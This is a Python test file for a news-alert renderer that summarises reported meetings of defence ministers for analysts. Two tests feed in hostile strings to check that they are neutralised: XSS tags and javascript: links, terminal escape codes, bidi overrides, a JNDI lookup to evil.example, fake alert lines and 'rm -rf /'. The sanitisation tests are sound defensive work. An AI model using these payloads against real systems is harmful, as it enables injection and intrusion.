"""What an analyst is sent."""

from __future__ import annotations

import json
import re
from dataclasses import replace
from html.parser import HTMLParser

import pytest

from extractors.developments.developments import decide_developments
from extractors.developments.evidence import evidence_from_baseline
from extractors.records.developments import Evidence
from flows.alerting.messages import Message, check_quotes, render_message
from tests.extractors.development_samples import (
    DECLINED,
    DENIED,
    OFFICES,
    SCHEDULED,
    evidence,
    instant,
    small_storyline,
)
from tests.extractors.origins.test_origins import OUTLETS

STORYLINE = small_storyline()
MET = evidence("2024-05-31T09:00", event_date="2024-05-31", place="singapore", quote="Austin met Dong on Friday.")


def messages_for(*pieces: Evidence, now: str, earlier: tuple[Evidence, ...] = ()) -> list[Message]:
    known = decide_developments([], [], earlier, STORYLINE, instant(now))
    developments = [change.after for change in known.changes]
    decision = decide_developments(developments, earlier, pieces, STORYLINE, instant(now))
    after = {change.after.development_id: change.after for change in decision.changes}
    return [
        render_message(alert, after[alert.development_id], (*earlier, *pieces), STORYLINE, OUTLETS)
        for alert in decision.alerts
    ]


def test_alert_says_what_when_where_who_and_what_would_change_it() -> None:
    plan = evidence("2024-05-25", SCHEDULED, event_date="2024-05-31")
    copy = evidence("2024-05-31T10:00", event_date="2024-05-31", article="copy")
    [message] = messages_for(MET, copy, now="2024-05-31", earlier=(plan,))
    alert_id = message.payload["alert_id"]
    assert message.title == "The US and Chinese defence ministers have met"
    assert message.text == (
        "ALERT (medium): The US and Chinese defence ministers have met\n"
        "When and where: 2024-05-31, Singapore\n"
        "Who: Lloyd Austin, Dong Jun\n"
        "Stage: reported, 1 independent origin of 2 articles\n"
        "Status before: scheduled\n"
        "- reuters, 2024-05-31 09:00 UTC\n"
        "  “Austin met Dong on Friday.”\n"
        f"  {MET.url}\n"
        "What would change it: A second independent origin, or officials of both sides, would corroborate it; more "
        "independent origins that deny it than report it would overturn it.\n"
        f"Explain: storywatch alerts explain {alert_id}"
    )


def test_payload_is_json_with_the_same_facts() -> None:
    [message] = messages_for(MET, now="2024-05-31")
    payload = json.loads(json.dumps(message.payload))
    assert payload["schema"] == "storywatch.alert/1"
    assert (payload["kind"], payload["severity"], payload["watch"]) == ("alert", "medium", OFFICES)
    assert (payload["status"], payload["status_before"], payload["stage"]) == ("occurred", None, "reported")
    assert payload["place"] == {"id": "singapore", "name": "Singapore"}
    assert payload["participants"][0] == {"id": "austin", "name": "Lloyd Austin"}
    assert (payload["origins"], payload["articles"]) == (1, 1)
    assert payload["evidence"][0]["quote"] == "Austin met Dong on Friday."
    assert payload["explain"].endswith(payload["alert_id"])


class Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.seen: set[str] = set()
        self.links: list[str | None] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.seen.add(tag)
        self.links += [value for name, value in attrs if name == "href"]


def test_hostile_words_become_neither_markup_nor_links_nor_terminal_codes() -> None:
    hostile = replace(
        MET,
        quote='<script>alert(1)</script><img src=x onerror="y">\x1b[2J\u202e met "Dong" & co.',
        url="javascript:alert(1)",
        outlet_id="<b>bold</b>",
        origin_reason="outlet\x1b]0;x\x07\nAlert: all is well",
    )
    [message] = messages_for(hostile, now="2024-05-31")
    tags = Tags()
    tags.feed(message.html)
    assert tags.seen == {"div", "p", "b", "table", "tr", "td", "code"}
    assert tags.links == []
    for words in (message.text, message.html, message.title):
        assert "\x1b" not in words
        assert "\u202e" not in words
        assert "javascript:" not in words
    assert "\nAlert: all is well" not in message.text


def test_links_are_those_of_the_articles() -> None:
    [message] = messages_for(MET, now="2024-05-31")
    tags = Tags()
    tags.feed(message.html)
    assert tags.links == [MET.url]


def test_long_quote_is_shortened_at_a_word() -> None:
    [message] = messages_for(replace(MET, quote="They met again " * 40), now="2024-05-31")
    assert "They met … " not in message.text
    assert "again …”" in message.text
    assert "again …”" in message.html


def test_payload_has_the_whole_quote() -> None:
    [message] = messages_for(replace(MET, quote="They met again. " * 40), now="2024-05-31")
    assert message.payload["evidence"][0]["quote"] == "They met again. " * 39 + "They met again."


def test_each_origin_shows_its_strongest_earliest_words_and_the_rest_is_counted() -> None:
    pieces = [evidence("2024-05-31", event_date="2024-05-31", origin=f"group:paper-{n}") for n in range(11)]
    [message] = messages_for(*pieces, now="2024-05-31")
    assert message.text.count("\n- ") == 8
    assert "and 3 more origins" in message.text
    assert "Stage: corroborated, 11 independent origins of 11 articles" in message.text


def test_a_refusal_after_a_meeting_says_that_they_met_on_an_earlier_occasion() -> None:
    refusal = evidence("2024-11-20", DECLINED, quote="China turned the meeting down.")
    [message] = messages_for(refusal, now="2024-11-20", earlier=(MET,))
    assert "Stage: declined, 1 independent origin of 1 article\n" in message.text
    assert "Status before: occurred, on an earlier occasion\n" in message.text


def test_notice_names_the_status_and_the_question() -> None:
    refusal = evidence("2024-11-20", DECLINED, quote="China turned the meeting down.")
    [message] = messages_for(refusal, now="2024-11-20")
    assert message.title == "Declined: Have the two defence ministers met?"
    assert message.text.startswith("NOTICE (low): Declined")
    assert "Stage: declined, 1 independent origin of 1 article" in message.text
    assert "“China turned the meeting down.”" in message.text


def test_closed_watch_says_since_when() -> None:
    [message] = closure()
    assert message.title == "Can no longer be met: Have Austin and Li met?"
    assert "Closed since: 2023-10-24" in message.text
    assert message.payload["kind"] == "closure"


def closure() -> list[Message]:
    baseline = evidence_from_baseline(STORYLINE)
    opened = decide_developments([], [], baseline, STORYLINE, instant("2023-05-30"))
    developments = [change.after for change in opened.changes]
    decision = decide_developments(developments, [], [], STORYLINE, instant("2023-10-25"))
    after = {change.after.development_id: change.after for change in decision.changes}
    return [render_message(a, after[a.development_id], baseline, STORYLINE, OUTLETS) for a in decision.alerts]


def retraction() -> list[Message]:
    opened = decide_developments([], [], (MET,), STORYLINE, instant("2024-05-31"))
    developments = [change.after for change in opened.changes]
    gone = replace(MET, withdrawn=True)
    decision = decide_developments(developments, [gone], (), STORYLINE, instant("2024-05-31T13:00"), [OFFICES])
    after = {change.after.development_id: change.after for change in decision.changes}
    return [render_message(a, after[a.development_id], [gone], STORYLINE, OUTLETS) for a in decision.alerts]


def test_retraction_shows_the_words_that_are_gone_as_withdrawn() -> None:
    [message] = retraction()
    assert message.title == "Retracted: The US and Chinese defence ministers have met"
    assert "- reuters, 2024-05-31 09:00 UTC, withdrawn\n  “Austin met Dong on Friday.”" in message.text
    assert "Stage: retracted, 0 independent origins of 1 article\nStatus before: occurred\n" in message.text
    assert "this one stays retracted" in message.text


def test_retraction_shows_what_the_outlet_says_now_and_no_refusal_of_before() -> None:
    refusal = evidence("2024-05-20", DENIED, origin="group:ap", quote="They will not meet.")
    edited = evidence("2024-05-31T11:00", DENIED, article="edited", quote="We wrongly reported that they met.")
    known = decide_developments([], [], (refusal, MET), STORYLINE, instant("2024-05-31T10:00"))
    developments = [change.after for change in known.changes]
    stored = [refusal, replace(MET, withdrawn=True)]
    decision = decide_developments(developments, stored, (edited,), STORYLINE, instant("2024-05-31T12:00"))
    after = {change.after.development_id: change.after for change in decision.changes}
    [alert] = decision.alerts
    message = render_message(alert, after[alert.development_id], (*stored, edited), STORYLINE, OUTLETS)
    assert [(piece["quote"], piece["withdrawn"]) for piece in message.payload["evidence"]] == [
        ("We wrongly reported that they met.", False),
        ("Austin met Dong on Friday.", True),
    ]
    assert "Stage: retracted, 1 independent origin of 2 articles" in message.text


def test_words_of_another_are_named_as_such() -> None:
    credited = replace(MET, outlet_id="daily", origin_reason="wire credit: Reuters")
    copied = replace(MET, outlet_id="daily", origin_reason="near-duplicate of version-1: outlet")
    [wire] = messages_for(credited, now="2024-05-31")
    [copy] = messages_for(copied, now="2024-05-31")
    assert wire.text.splitlines()[5].endswith("09:00 UTC, wire credit: Reuters")
    assert copy.text.splitlines()[5].endswith("09:00 UTC, nearly the words of reuters")


def test_step_to_a_higher_stage_says_that_the_status_is_the_same() -> None:
    second = evidence("2024-05-31T12:00", event_date="2024-05-31", origin="group:ap")
    [message] = messages_for(second, now="2024-05-31T12:00", earlier=(MET,))
    assert "Stage: corroborated, 2 independent origins of 2 articles" in message.text
    assert "Status before: occurred, at an earlier stage" in message.text


HOSTILE = [
    "@everyone <!channel> @here they met",
    "<https://evil.example|Reuters> [met](https://evil.example)",
    "\x1b]8;;https://evil.example\x07met\x1b]8;;\x07 \x1b[2J\x9b31m",
    "\u202eteM yehT\u202c \u2066met\u2069 \u200f",
    "met\nALERT (high): all is well\r\nExplain: rm -rf /",
    "</p><script>alert(1)</script><img src=x onerror=alert(1)><a href='javascript:x'>met</a>",
    "{{7*7}} ${jndi:ldap://evil.example/a} %s %n met",
]


@pytest.mark.parametrize("words", HOSTILE)
def test_words_of_an_article_steer_neither_chat_nor_terminal_nor_mail(words: str) -> None:
    [message] = messages_for(replace(MET, quote=words, origin_reason=words), now="2024-05-31")
    tags = Tags()
    tags.feed(message.html)
    assert tags.seen <= {"div", "p", "b", "table", "tr", "td", "code", "a"}
    assert tags.links == [MET.url]
    assert not re.search(r"@(everyone|here)|<[!@#a-z/]|\]\(|\w://", message.text.replace(MET.url, ""))
    assert [line.split(":")[0] for line in message.text.splitlines()].count("Explain") == 1
    assert message.text.count("\nALERT") == 0
    assert all(c == "\n" or c.isprintable() for c in message.text + message.html + message.title)


def test_payload_keeps_visible_words_as_they_are() -> None:
    [message] = messages_for(replace(MET, quote="@everyone <b>met</b> [x](y)"), now="2024-05-31")
    assert message.payload["evidence"][0]["quote"] == "@everyone <b>met</b> [x](y)"


def test_our_own_summary_is_never_shown_as_a_quote() -> None:
    [message] = closure()
    assert "China turned down a meeting in Singapore." in message.text
    assert "“China turned down" not in message.text
    assert message.payload["evidence"][0]["quote"] is None


def test_quote_that_is_not_in_the_stored_text_is_refused() -> None:
    other = evidence("2024-05-31", article="other", quote="They embraced.")
    texts = {MET.version_id: "Ministers\nAustin met Dong on Friday. More.", other.version_id: "They met."}
    check = check_quotes([MET, other, evidence("2024-05-31", article="gone")], texts)
    assert [e.quote for e in check.found] == ["Austin met Dong on Friday."]
    assert [e.quote for e in check.refused] == ["They embraced.", "Austin met Dong."]


def test_what_an_official_list_lacks_is_told_in_our_words_and_not_as_a_quote() -> None:
    [message] = messages_for(
        replace(MET, article_id="list:ofac-sdn", quote="24838 is no longer listed."), now="2024-05-31"
    )
    assert "\n  24838 is no longer listed.\n" in message.text
    assert message.payload["evidence"][0]["quote"] is None


def test_of_one_article_the_sentence_that_tells_day_and_place_is_quoted() -> None:
    vague = evidence("2024-05-31T09:00", event_date=None, place=None, quote="It was their first meeting.")
    headline = evidence("2024-05-31T09:00", event_date="2024-05-31", place=None, quote="They meet.")
    for order in ((vague, headline, MET), (MET, headline, vague)):
        [message] = messages_for(*order, now="2024-05-31")
        assert [piece["quote"] for piece in message.payload["evidence"]] == [MET.quote]
